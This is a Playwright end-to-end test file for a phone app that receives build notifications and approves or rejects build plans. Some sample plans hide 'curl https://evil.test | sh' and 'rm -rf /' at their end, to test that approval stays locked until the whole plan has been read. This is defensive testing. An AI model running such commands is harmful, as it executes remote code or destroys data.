import type { Browser, Page, Request } from "playwright-core";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { axe, sharedBrowser } from "../browser.ts";
import { asWindow, freshHome, killServers, startHeadless } from "../e2e/headless.ts";
import { phoneBody, startServer, type TestServer } from "../http/server.ts";
import { PHONES, type PhoneName, type Visit, type VisitChoice, visit } from "./phone-browser.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await sharedBrowser();
});

const opened: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const each of opened.splice(0).reverse()) await each.close();
  killServers();
});

const NAMES = Object.keys(PHONES) as PhoneName[];
/** However slow the machine is. */
const eventually = <T>(read: () => T) => expect.poll(read, { timeout: 60_000 });
const GENEROUS = { PAIRING_RATE_LIMIT_SCALE: "100000" };
const MINUTE = 60_000;
const DAY = 24 * 60 * MINUTE;
const fromNow = (milliseconds: number): string => new Date(Date.now() + milliseconds).toISOString();

/** A browser that holds a phone's cookie, as accepting leaves it. */
async function phoneOf(server: TestServer, name: PhoneName = "Pixel", choice: VisitChoice = {}, deviceId = "phone-1"): Promise<Visit> {
  const made = await visit(browser, name, server.phoneAddress, choice);
  opened.push(made.context);
  const accepted = await made.context.request.post(`${server.phoneAddress}/phone/pairing/accept-invite`, {
    data: phoneBody(await server.invite(), deviceId),
  });
  expect(accepted.status()).toBe(200);
  return made;
}
async function inboxOf(server: TestServer, name?: PhoneName, choice?: VisitChoice): Promise<Visit> {
  const made = await phoneOf(server, name, choice);
  await made.page.goto(`${server.phoneAddress}/inbox`);
  await isConnected(made.page);
  return made;
}
const isConnected = async (page: Page): Promise<void> => page.locator("#connection", { hasText: "Connected" }).waitFor();

const notify = async (server: TestServer, over: object = {}): Promise<string> =>
  (
    await server.local("POST", "/phone/notifications/send", {
      body: { build_id: "build-7", project_name: "Top Dog", status: "success", message: "All tests passed.", ...over },
    })
  ).body.notification_id;
const asked = async (server: TestServer, over: object = {}): Promise<string> =>
  (
    await server.local("POST", "/phone/approvals/request", {
      body: {
        build_id: "build-7",
        project_name: "Top Dog",
        plan: "1. stop the server\n2. deploy",
        affected_files: ["src/a.ts", "src/b.ts"],
        estimated_duration: "5 minutes",
        requires_approval_by: fromNow(10 * MINUTE),
        ...over,
      },
    })
  ).body.approval_id;
const status = async (server: TestServer, id: string): Promise<any> => (await server.local("GET", `/phone/approvals/${id}`)).body;
const atComputer = async (server: TestServer, id: string, decision: string): Promise<unknown> =>
  server.local("POST", `/admin/approvals/${id}/decision`, { body: { decision } });
const openApproval = async (page: Page): Promise<void> => {
  await page.locator("#waiting").getByRole("link").first().click();
  await page.getByRole("heading", { name: "Approve this build?" }).waitFor();
};
const messages = (page: Page): Promise<string[]> => page.locator(".message").allInnerTexts();
/** All that a browser keeps of a page, but for cookies that no script reads. */
const savedBy = (page: Page): Promise<unknown> =>
  page.evaluate(async () => [
    Object.keys(localStorage).filter((name) => name !== "topdog_device_id"),
    await caches.keys(),
    (await navigator.serviceWorker.getRegistrations()).length,
  ]);

/** A finger on something until it is taken away. */
async function touch(page: Page, name: string): Promise<() => Promise<void>> {
  const button = page.getByRole("button", { name, exact: true, disabled: false });
  await button.scrollIntoViewIfNeeded();
  const box = (await button.boundingBox())!;
  const session = await page.context().newCDPSession(page);
  await session.send("Input.dispatchTouchEvent", {
    type: "touchStart",
    touchPoints: [{ x: box.x + box.width / 2, y: box.y + box.height / 2 }],
  });
  return async () => {
    await session.send("Input.dispatchTouchEvent", { type: "touchEnd", touchPoints: [] });
  };
}

it("shows only what its level allows, from the moment the level is changed", async () => {
  const server = await startServer(GENEROUS);
  const { page, complaints } = await inboxOf(server);
  await server.pair("phone-2");
  const change = (level: string) => server.local("PATCH", "/phone/devices/phone-1", { body: { level } });
  await asked(server);
  await page.getByRole("heading", { name: "Waiting for you (1)" }).waitFor();
  const command = page.getByRole("link", { name: "Command" });
  await command.waitFor();
  await change("view");
  await command.waitFor({ state: "hidden" });
  await expect.poll(() => page.locator("#waiting li").count()).toBe(0);
  await notify(server);
  await page.getByText("All tests passed.").waitFor();
  await page.getByRole("link", { name: "This phone" }).tap();
  await expect.poll(() => page.locator(".ticks li").allInnerTexts()).toEqual(["Receive build notifications"]);
  await page.evaluate(() => (location.hash = "#command"));
  await page.getByRole("heading", { name: "There is nothing at this address" }).waitFor();
  await page.getByRole("link", { name: "Open the inbox" }).tap();
  await change("command");
  await command.waitFor();
  await page.getByRole("heading", { name: "Waiting for you (1)" }).waitFor();
  expect(complaints).toEqual([]);
});

describe.each(NAMES)("on %s", (name) => {
  it("goes from the pairing page to the inbox, shows what comes, and approves by a hold", async () => {
    const server = await startServer(GENEROUS);
    const { page, context, complaints } = await visit(browser, name, server.phoneAddress);
    opened.push(context);
    await page.goto(`${server.phoneAddress}/pair?code=${await server.invite()}`);
    await page.getByRole("button", { name: "Accept" }).tap();
    await page.getByRole("link", { name: "Open your inbox" }).waitFor();
    await expect
      .poll(() => page.locator("#inbox").innerText())
      .toMatch(name === "iPhone" ? /off until Top Dog is on your Home Screen\.\s+Add to Home Screen/ : /Add to Home screen/);
    await page.getByRole("link", { name: "Open your inbox" }).tap();
    await isConnected(page);
    await page.getByText("Nothing here yet.").waitFor();
    await expect.poll(() => page.title()).toBe("Inbox · Top Dog");

    await notify(server, { status: "failure", message: "2 tests failed", priority: "critical" });
    const card = page.locator("#today li");
    await card.getByText("2 tests failed").waitFor();
    for (const words of ["Build failed", "Top Dog", "Critical"]) await expect.poll(() => card.innerText()).toContain(words);

    const id = await asked(server);
    await page.getByRole("heading", { name: "Waiting for you (1)" }).waitFor();
    await eventually(() => page.title()).toBe("1 waiting · Inbox · Top Dog");
    await eventually(() => page.locator("#urgent").innerText()).toMatch(/^Top Dog needs your approval\. (10:00|9:\d\d) left\.$/);
    await page.locator("#waiting").getByRole("link").tap();
    await page.getByRole("heading", { name: "Approve this build?" }).waitFor();
    const detail = await page.locator("main").innerText();
    for (const words of [
      "build-7",
      "user123",
      "5 minutes",
      "1. stop the server\n2. deploy",
      "src/a.ts",
      "src/b.ts",
      "Files it changes (2)",
    ])
      expect(detail).toContain(words);
    await expect.poll(() => page.getByRole("timer").innerText()).toMatch(/^Expires \d.*, (10:00|9:\d\d) left$/);

    const letGo = await touch(page, "Hold to approve");
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    await letGo();
    expect(await status(server, id)).toMatchObject({ status: "approved", decided_by_name: name === "iPhone" ? "iPhone" : "Pixel 7" });
    await expect.poll(() => page.getByRole("button", { name: "Hold to approve" }).count()).toBe(0);
    await page.getByRole("link", { name: "Back to Inbox" }).tap();
    await page.locator("#today li", { hasText: "Approved on this phone" }).waitFor();
    await eventually(() => page.title()).toBe("Inbox · Top Dog");
    expect(complaints).toEqual([]);
  });

  it.each(["light", "dark"] as const)("axe finds nothing on any of its screens, %s", async (colorScheme) => {
    const server = await startServer(GENEROUS);
    const { page, complaints } = await inboxOf(server, name, { colorScheme });
    expect(await axe(page)).toEqual([]);
    for (const status of ["initiated", "in_progress", "success", "failure", "approval_pending", "cancelled"])
      await notify(server, { status, priority: "high", action_required: true });
    await asked(server, { plan: "line\n".repeat(40) });
    await atComputer(server, await asked(server), "reject");
    await page.locator("#today li", { hasText: "Rejected on your computer" }).waitFor();
    expect(await axe(page)).toEqual([]);
    await openApproval(page);
    expect(await axe(page)).toEqual([]);
    await page.getByRole("button", { name: "Show all 41 lines" }).tap();
    expect(await axe(page)).toEqual([]);
    await page.getByText("End of the plan", { exact: true }).scrollIntoViewIfNeeded();
    await page.getByRole("button", { name: "Hold to approve" }).tap();
    await page.getByRole("button", { name: "Yes, approve" }).waitFor();
    expect(await axe(page)).toEqual([]);
    await page.getByRole("button", { name: "Not yet" }).tap();
    await page.getByRole("button", { name: "Reject…" }).tap();
    expect(await axe(page)).toEqual([]);
    await page.goto(`${server.phoneAddress}/inbox#settings`);
    await page.getByRole("button", { name: "Unpair this phone…" }).tap();
    expect(await axe(page)).toEqual([]);
    await page.getByRole("button", { name: "Unpair", exact: true }).tap();
    await page.getByRole("heading", { name: "This phone is unpaired" }).waitFor();
    expect(await axe(page)).toEqual([]);
    expect(complaints).toEqual([]);
  });
});

describe("approving", () => {
  it("takes more than a tap, and sends nothing when the finger is lifted early", async () => {
    const server = await startServer(GENEROUS);
    const { page, requests } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    await page.getByRole("button", { name: "Hold to approve" }).tap();
    await page.getByText("Approve this for Top Dog?").waitFor();
    await page.getByRole("button", { name: "Not yet" }).tap();
    const letGo = await touch(page, "Hold to approve");
    await page.locator(".holding").waitFor();
    await letGo();
    await page.evaluate(() => {
      for (const button of document.querySelectorAll("button")) button.click();
    });
    await expect.poll(() => page.locator(".holding").count()).toBe(0);
    expect(requests.filter(({ url }) => url.endsWith("/decision"))).toEqual([]);
    expect((await status(server, id)).status).toBe("pending");
  });

  it("works by keyboard: press, then confirm", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await page.locator("#waiting").getByRole("link").focus();
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Approve this build?" }).waitFor();
    await eventually(() => page.evaluate(() => document.activeElement?.textContent)).toBe("Approve this build?");
    const focused = (): Promise<string | null | undefined> => page.evaluate(() => document.activeElement?.textContent);
    while ((await focused()) !== "Hold to approve") await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await expect.poll(focused).toBe("Approve this for Top Dog?");
    expect((await status(server, id)).status).toBe("pending");
    while ((await focused()) !== "Yes, approve") await page.keyboard.press("Tab");
    // The first half second is nobody's decision.
    await eventually(async () => {
      await page.keyboard.press("Enter");
      return page.locator(".outcome").innerText();
    }).toContain("Approved on this phone");
    await expect.poll(focused).toContain("Approved on this phone");
    expect((await status(server, id)).status).toBe("approved");
    await page.goBack();
    await page.locator("#today li").waitFor();
    await eventually(focused).toContain("Approved on this phone");
  });

  it.each(["Space", "Enter"])("works by holding %s, and shows how far it is", async (key) => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    const button = page.getByRole("button", { name: "Hold to approve" });
    await button.focus();
    await page.keyboard.down(key);
    await page.getByText("Let go to stop. Nothing is sent yet.").waitFor();
    await page.keyboard.up(key);
    // Let go too early: a question, and nothing is sent.
    await page.getByRole("button", { name: "Not yet" }).click();
    await expect.poll(async () => (await status(server, id)).status).toBe("pending");
    await expect.poll(() => button.evaluate((element) => element === document.activeElement)).toBe(true);
    await page.keyboard.down(key);
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    await page.keyboard.up(key);
  });

  it("leaves nothing behind on the page, however many approvals are opened", async () => {
    const server = await startServer(GENEROUS);
    const made = await phoneOf(server);
    await asked(server);
    await made.page.addInitScript(() => {
      let listeners = 0;
      for (const [name, by] of [
        ["addEventListener", 1],
        ["removeEventListener", -1],
      ] as const) {
        const original = document[name].bind(document) as (...args: unknown[]) => void;
        document[name] = (...args: unknown[]) => {
          listeners += by;
          original(...args);
        };
      }
      Object.assign(window, { listenersOfDocument: () => listeners });
    });
    const { page } = made;
    await page.goto(`${server.phoneAddress}/inbox`);
    await isConnected(page);
    const left = async (): Promise<number> => page.evaluate(() => (window as any).listenersOfDocument());
    const before = await left();
    for (let time = 0; time < 3; time += 1) {
      await openApproval(page);
      await page.goBack();
      await page.locator("#waiting").getByRole("link").first().waitFor();
    }
    expect(await left()).toBe(before);
  });

  it("is far from rejecting, which is smaller, and both take two deliberate acts", async () => {
    const server = await startServer(GENEROUS);
    const { page, requests } = await inboxOf(server, "iPhone", { viewport: { width: 320, height: 640 } });
    await asked(server);
    await openApproval(page);
    const [yes, no] = [
      (await page.getByRole("button", { name: "Hold to approve" }).boundingBox())!,
      (await page.getByRole("button", { name: "Reject…" }).boundingBox())!,
    ];
    expect(yes.x - (no.x + no.width)).toBeGreaterThanOrEqual(16);
    expect(yes.width).toBeGreaterThan(no.width * 1.5);
    await page.getByRole("button", { name: "Reject…" }).tap();
    await page.getByLabel("Comment (optional)").waitFor();
    await page.getByRole("button", { name: "Go back" }).tap();
    expect(requests.filter(({ url }) => url.endsWith("/decision"))).toEqual([]);
  });

  it("sends the same answer again when the reply was lost, and it counts once", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    let lost = 0;
    await page.route("**/decision", async (route) => {
      if (lost > 0) return route.continue();
      lost += 1;
      await route.fetch();
      return route.abort();
    });
    // The event would show it as well: here only the answer may.
    await page.route("**/phone/inbox?*", () => undefined);
    const letGo = await touch(page, "Hold to approve");
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    await letGo();
    expect(lost).toBe(1);
    expect((await status(server, id)).status).toBe("approved");
    expect(server.audit().filter(({ event }) => event === "approval_decided")).toHaveLength(1);
  });

  it("says when nobody answered, and can be tried again", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    await page.route("**/decision", (route) => route.abort());
    const letGo = await touch(page, "Hold to approve");
    await page.getByRole("alert").getByText("Your answer counts only once.").waitFor({ timeout: 30_000 });
    await letGo();
    expect((await status(server, id)).status).toBe("pending");
    await page.unroute("**/decision");
    const again = await touch(page, "Hold to approve");
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    await again();
  });
});

describe("what is approved", () => {
  const approve = (page: Page) => page.getByRole("button", { name: "Hold to approve" });
  const isLocked = (page: Page) => approve(page).getAttribute("aria-disabled");
  const bodyOf = (request: Request): { decision: string; content_sha256?: string } => JSON.parse(request.postData() ?? "{}");
  /** Much as somebody would write it who wants the end not to be read. */
  const LONG: Readonly<Record<string, string>> = {
    "of many lines": `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`,
    "of one line without a blank": "x".repeat(4000),
    "written from right to left": Array.from({ length: 40 }, () => "افعل شيئًا غير ضار").join("\n"),
    "of blank lines": `harmless${"\n".repeat(60)}rm -rf /`,
  };

  it.each(Object.keys(LONG))("cannot be approved before the end of a plan %s was in view", async (name) => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone");
    const id = await asked(server, { plan: LONG[name] });
    await openApproval(page);
    await page.getByText("You can approve when all of it is shown.").waitFor();
    // To the bottom of the page and back: a part of the plan is not shown still.
    await page.evaluate(() => scrollTo(0, document.body.scrollHeight));
    await expect.poll(() => approve(page).count()).toBe(0);
    await expect.poll(() => page.locator(".plan").textContent()).not.toBe(LONG[name]);
    await page.getByRole("button", { name: /^Show all/ }).tap();
    await page.getByText("Read to the end of the plan and the files to approve.").waitFor();
    await expect.poll(() => isLocked(page)).toBe("true");
    await approve(page).tap({ force: true });
    await expect.poll(() => page.getByRole("button", { name: "Yes, approve" }).count()).toBe(0);
    await page.getByText("End of the plan", { exact: true }).scrollIntoViewIfNeeded();
    await approve(page).scrollIntoViewIfNeeded();
    await eventually(() => isLocked(page)).toBe(null);
    await eventually(() => page.getByText("You can approve now.").count()).toBe(1);
    const sent = page.waitForRequest("**/decision");
    const letGo = await touch(page, "Hold to approve");
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    await letGo();
    expect(bodyOf(await sent)).toEqual({ decision: "approve", content_sha256: (await status(server, id)).content_sha256 });
  });

  it("is read by the keyboard alone, also at 400 %", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "Pixel", { viewport: { width: 320, height: 256 } });
    const id = await asked(server, {
      plan: LONG["of many lines"],
      affected_files: Array.from({ length: 60 }, (_, file) => `src/${file}.ts`),
    });
    await openApproval(page);
    await page.getByRole("button", { name: "Show all 41 lines" }).focus();
    await page.keyboard.press("Enter");
    await eventually(() => page.evaluate(() => document.activeElement?.id)).toBe("plan");
    await eventually(async () => {
      if ((await isLocked(page)) === "true") await page.keyboard.press("PageDown");
      return isLocked(page);
    }).toBe(null);
    await approve(page).focus();
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Yes, approve" }).click({ delay: 600 });
    await page.locator(".outcome", { hasText: "Approved on this phone" }).waitFor();
    expect((await status(server, id)).status).toBe("approved");
  });

  it("can always be rejected, unread", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone");
    const id = await asked(server, { plan: LONG["of many lines"] });
    await openApproval(page);
    await page.getByRole("button", { name: "Reject…" }).tap();
    await page.getByRole("button", { name: "Reject", exact: true }).tap();
    await page.locator(".outcome", { hasText: "Rejected on this phone" }).waitFor();
    expect((await status(server, id)).status).toBe("rejected");
  });

  it("includes the files: a list that is longer than the screen is read to its end", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone");
    await asked(server, { affected_files: Array.from({ length: 80 }, (_, file) => `src/${file}.ts`) });
    await openApproval(page);
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    await expect.poll(() => isLocked(page)).toBe("true");
    await page.getByText("src/79.ts").scrollIntoViewIfNeeded();
    await approve(page).scrollIntoViewIfNeeded();
    await eventually(() => isLocked(page)).toBe(null);
  });

  it("is what the page showed: where the computer has something else, nothing is decided", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await phoneOf(server);
    const id = await asked(server);
    // Somebody on the way shows another plan, and says the right digest with it.
    await page.route("**/phone/inbox?*", async (route) => {
      // Questions that are still open when the test ends have nobody to answer.
      const headers = { ...route.request().headers(), "sec-fetch-site": "same-origin" };
      const response = await route.fetch({ headers }).catch(() => undefined);
      if (response) await route.fulfill({ response, body: (await response.text()).replace("2. deploy", "2. tidyup") });
    });
    await page.goto(`${server.phoneAddress}/inbox`);
    await isConnected(page);
    await openApproval(page);
    await page.locator(".plan", { hasText: "2. tidyup" }).waitFor();
    const letGo = await touch(page, "Hold to approve");
    await page.getByText("The content has changed since it was shown.").waitFor();
    await letGo();
    expect((await status(server, id)).status).toBe("pending");
  });
});

describe("rejecting", () => {
  it("takes a comment along", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone");
    const id = await asked(server);
    await openApproval(page);
    await page.getByRole("button", { name: "Reject…" }).tap();
    await page.getByLabel("Comment (optional)").fill("Not on a <b>Friday</b>.");
    await page.getByRole("button", { name: "Reject", exact: true }).tap();
    await page.locator(".outcome", { hasText: "Rejected on this phone" }).waitFor();
    await page.getByText("Not on a <b>Friday</b>.").waitFor();
    expect(await status(server, id)).toMatchObject({ status: "rejected", comment: "Not on a <b>Friday</b>." });
  });
});

describe("an approval that is open on the phone", () => {
  it("shows at once that the computer decided", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    await atComputer(server, id, "approve");
    await page.locator(".outcome", { hasText: "Approved on your computer" }).waitFor();
    await page.getByRole("heading", { level: 1, name: "Approved" }).waitFor();
    await expect.poll(() => page.getByRole("button", { name: "Hold to approve" }).count()).toBe(0);
    await eventually(() => page.locator("#polite").innerText()).toContain("Top Dog: Approved on your computer");
  });

  it("says that another phone decided, and when", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const token = await server.pair("other");
    const id = await asked(server);
    await openApproval(page);
    await server.phone("POST", `/phone/approvals/${id}/decision`, {
      headers: { authorization: `Bearer ${token}` },
      body: { decision: "reject" },
    });
    await page.locator(".outcome", { hasText: /^Rejected on John's iPhone, \d/ }).waitFor();
  });

  it("says who was first when both decide, and the other way", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    // From the next request on this phone receives nothing.
    let answer = (): void => undefined;
    const held = new Promise<void>((resolve) => (answer = resolve));
    await page.route("**/phone/inbox?*", async (route) => {
      await held;
      await route.continue();
    });
    await notify(server);
    await page.locator("#polite", { hasText: "1 new message." }).waitFor({ state: "attached" });
    await atComputer(server, id, "reject");
    const letGo = await touch(page, "Hold to approve");
    await page
      .getByRole("alert")
      .getByText(/^This was already rejected on the computer, \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\.$/)
      .waitFor();
    await letGo();
    answer();
    await page.locator(".outcome", { hasText: "Rejected on your computer" }).waitFor();
  });

  it("shows the requester, and nothing where none was given", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    await asked(server, { requested_by: "<b>Grace</b>" });
    await page
      .locator("#waiting")
      .getByText(/^Requested by <b>Grace<\/b>, /)
      .waitFor();
    await openApproval(page);
    await expect.poll(() => page.locator(".facts").innerText()).toMatch(/Requested by\s+<b>Grace<\/b>/);
    await page.goBack();
    await asked(server, { requires_approval_by: fromNow(5 * MINUTE) });
    await page.getByRole("heading", { name: "Waiting for you (2)" }).waitFor();
    await openApproval(page);
    await expect.poll(() => page.locator(".facts").innerText()).not.toContain("Requested by");
  });

  it("is over when its time is, by the computer's clock", async () => {
    const server = await startServer(GENEROUS);
    const made = await phoneOf(server);
    await made.page.clock.install({ time: new Date(Date.now() + 3 * 60 * MINUTE) });
    await made.page.goto(`${server.phoneAddress}/inbox`);
    await isConnected(made.page);
    await made.page.getByText("This phone's clock is 3 hours ahead of your computer's.").waitFor();
    await asked(server, { requires_approval_by: fromNow(6000) });
    await openApproval(made.page);
    await expect.poll(() => made.page.getByRole("timer").innerText()).toMatch(/0:0\d left$/);
    await made.page.locator(".outcome", { hasText: "Expired: nobody answered in time." }).waitFor();
    await expect.poll(() => made.page.getByRole("button", { name: "Hold to approve" }).count()).toBe(0);
  });

  it("shows that it was cancelled", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await asked(server);
    await openApproval(page);
    await server.local("DELETE", `/phone/approvals/${id}`);
    await page.locator(".outcome", { hasText: "Cancelled in Top Dog." }).waitFor();
  });
});

describe("the connection", () => {
  it("is shown as it is, and what came meanwhile comes once, in order", async () => {
    const server = await startServer(GENEROUS);
    const { page, context } = await inboxOf(server);
    await notify(server, { message: "message 0" });
    await page.getByText("message 0").waitFor();
    await context.setOffline(true);
    await page.locator("#away", { hasText: /You're offline\. Last updated \d/ }).waitFor();
    for (let number = 1; number <= 5; number += 1) await notify(server, { message: `message ${number}` });
    await context.setOffline(false);
    await isConnected(page);
    await eventually(() => messages(page)).toEqual([5, 4, 3, 2, 1, 0].map((number) => `message ${number}`));
  });

  it("survives the computer: killed and started again, all messages come once, in order", async () => {
    const home = freshHome();
    const first = await startHeadless(home, GENEROUS);
    const local = async (path: string, body: object, at = first.localAddress, more = {}): Promise<any> =>
      (
        await fetch(at + path, { method: "POST", headers: { "content-type": "application/json", ...more }, body: JSON.stringify(body) })
      ).json();
    const news = (message: string, at?: string): Promise<any> =>
      local("/phone/notifications/send", { build_id: "b", project_name: "Top Dog", status: "success", message }, at);
    const { invite_code } = await local(
      "/phone/pairing/send-sms",
      { phone_number: "+14155551234", user_id: "ada" },
      first.localAddress,
      await asWindow(first),
    );
    const { page, context } = await visit(browser, "Pixel", first.phoneAddress);
    opened.push(context);
    await context.request.post(`${first.phoneAddress}/phone/pairing/accept-invite`, { data: phoneBody(invite_code) });
    await page.goto(`${first.phoneAddress}/inbox`);
    await isConnected(page);
    await news("message 0");
    await page.getByText("message 0").waitFor();
    // On their way, on disk, and nobody has read them.
    await context.setOffline(true);
    await page.locator("#connection", { hasText: "offline" }).waitFor();
    for (let number = 1; number <= 3; number += 1) await news(`message ${number}`);
    first.child.kill("SIGKILL");
    await first.ended;
    await context.setOffline(false);
    await page.locator("#away", { hasText: /Can't reach Top Dog since/ }).waitFor();
    const ports = { PAIRING_PORT: new URL(first.localAddress).port, PAIRING_PHONE_PORT: new URL(first.phoneAddress).port };
    const second = await startHeadless(home, { ...GENEROUS, ...ports });
    await news("message 4", second.localAddress);
    await page
      .getByRole("button", { name: "Try now" })
      .click({ timeout: 2000 })
      .catch(() => undefined);
    await isConnected(page);
    await eventually(() => messages(page)).toEqual([4, 3, 2, 1, 0].map((number) => `message ${number}`));
  });

  it("asks one question at a time, and none while nobody looks", async () => {
    const server = await startServer(GENEROUS);
    const made = await phoneOf(server);
    let inFlight = 0;
    let most = 0;
    made.page.on("request", (request) => {
      if (request.url().includes("/phone/inbox?")) most = Math.max(most, ++inFlight);
    });
    const ended = (request: Request): void => {
      if (request.url().includes("/phone/inbox?")) inFlight -= 1;
    };
    made.page.on("requestfinished", ended);
    made.page.on("requestfailed", ended);
    await made.page.addInitScript(() => {
      Object.defineProperty(document, "visibilityState", { get: () => (document.documentElement.dataset["away"] ? "hidden" : "visible") });
    });
    await made.page.goto(`${server.phoneAddress}/inbox`);
    await isConnected(made.page);
    for (let number = 0; number < 3; number += 1) await notify(server, { message: `message ${number}` });
    await eventually(() => messages(made.page)).toHaveLength(3);
    expect(most).toBe(1);
    await made.page.evaluate(() => {
      document.documentElement.dataset["away"] = "1";
      document.dispatchEvent(new Event("visibilitychange"));
    });
    await eventually(() => inFlight).toBe(0);
    await notify(server, { message: "message 3" });
    await expect.poll(() => messages(made.page)).toHaveLength(3);
    await made.page.evaluate(() => {
      delete document.documentElement.dataset["away"];
      document.dispatchEvent(new Event("visibilitychange"));
    });
    await made.page.getByText("message 3").waitFor();
    expect(most).toBe(1);
  });

  it("does not take a hotel's sign-in page for an answer", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    await page.route("**/phone/**", (route) => route.fulfill({ status: 200, contentType: "text/html", body: "<h1>Sign in</h1>" }));
    await notify(server);
    await page.locator("#away", { hasText: "Can't reach Top Dog since" }).waitFor();
    await page.unroute("**/phone/**");
    await isConnected(page);
  });
});

describe("what is stored on the phone", () => {
  it("is shown at once when the page is opened again, with its age, and cannot be answered before it is live", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    await notify(server);
    await asked(server);
    await page.getByRole("heading", { name: "Waiting for you (1)" }).waitFor();
    await page.getByText("All tests passed.").waitFor();
    let answer = (): void => undefined;
    const held = new Promise<void>((resolve) => (answer = resolve));
    await page.route("**/phone/**", async (route) => {
      await held;
      await route.continue();
    });
    await page.reload();
    await page.getByText("All tests passed.").waitFor();
    await expect.poll(() => page.locator("#connection").innerText()).toBe("Connecting…");
    await expect.poll(() => page.locator("#age").innerText()).toMatch(/^Last updated \d/);
    await openApproval(page);
    await page.getByText("There is no connection to Top Dog.").waitFor();
    await expect.poll(() => page.getByRole("button", { name: "Hold to approve" }).count()).toBe(0);
    answer();
    await page.getByRole("button", { name: "Hold to approve" }).waitFor();
  });

  it("opens without a connection, once it was open with one", async () => {
    const server = await startServer(GENEROUS);
    const { page, context } = await inboxOf(server);
    await notify(server);
    await page.getByText("All tests passed.").waitFor();
    await eventually(() => page.evaluate(() => navigator.serviceWorker.controller?.scriptURL ?? "")).toContain("/inbox/worker.js");
    await expect
      .poll(async () => page.evaluate(async () => (await navigator.serviceWorker.getRegistration("/inbox"))?.scope))
      .toBe(`${server.phoneAddress}/inbox`);
    await context.setOffline(true);
    await page.reload();
    await page.getByText("All tests passed.").waitFor();
    await page.locator("#connection", { hasText: "offline" }).waitFor();
    const cached = await page.evaluate(async () => {
      const [name = ""] = await caches.keys();
      return (await (await caches.open(name)).keys()).map(({ url }) => new URL(url).pathname);
    });
    expect(cached).toContain("/inbox");
    expect(cached.filter((path) => !path.startsWith("/inbox"))).toEqual([]);
  });

  it.each(["revoked", "suspended", "unpaired"] as const)("is gone as soon as the phone is %s, in the middle of a question", async (how) => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    await notify(server, { message: "a secret message" });
    await page.getByText("a secret message").waitFor();
    await eventually(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    if (how === "revoked") await server.local("DELETE", "/phone/devices/phone-1");
    if (how === "suspended") await server.local("POST", "/phone/devices/phone-1/suspend");
    if (how === "unpaired") {
      await page.getByRole("link", { name: "This phone", exact: true }).tap();
      const settings = await page.locator(".settings").innerText();
      for (const words of ["John's iPhone", "user123", "Approve builds remotely"]) expect(settings).toContain(words);
      await page.getByRole("button", { name: "Unpair this phone…" }).tap();
      await page.getByRole("button", { name: "Unpair", exact: true }).tap();
    }
    const heading = { revoked: "This phone was unpaired", suspended: "This phone is suspended", unpaired: "This phone is unpaired" }[how];
    await page.getByRole("heading", { level: 1, name: heading }).waitFor();
    await expect.poll(() => page.content()).not.toContain("a secret message");
    await eventually(() => savedBy(page)).toEqual([[], [], 0]);
    const [device] = (await server.local("GET", "/phone/devices")).body;
    expect(device.status).toBe(how === "suspended" ? "suspended" : "revoked");
    await page.reload();
    const later = { revoked: heading, suspended: heading, unpaired: "This phone isn't paired" }[how];
    await page.getByRole("heading", { level: 1, name: later }).waitFor();
  });

  it.each(["suspended", "unconfirmed"] as const)("comes by itself to a phone that was %s once it is let in", async (state) => {
    const server = await startServer(GENEROUS);
    const { page, context } = await visit(browser, "Pixel", server.phoneAddress);
    opened.push(context);
    const byWhom = state === "unconfirmed" ? { "x-window-key": "" } : {};
    const invited = await server.local("POST", "/phone/pairing/send-sms", {
      headers: byWhom,
      body: { phone_number: "+14155552671", user_id: "user123" },
    });
    await context.request.post(`${server.phoneAddress}/phone/pairing/accept-invite`, {
      data: phoneBody(invited.body.invite_code, "phone-1"),
    });
    if (state === "suspended") await server.local("POST", "/phone/devices/phone-1/suspend");
    await page.goto(`${server.phoneAddress}/inbox`);
    const heading = { suspended: "This phone is suspended", unconfirmed: "This phone isn't confirmed yet" }[state];
    await page.getByRole("heading", { level: 1, name: heading }).waitFor();
    await server.local("POST", `/phone/devices/phone-1/${state === "suspended" ? "reactivate" : "confirm"}`, { body: {} });
    await isConnected(page);
  });

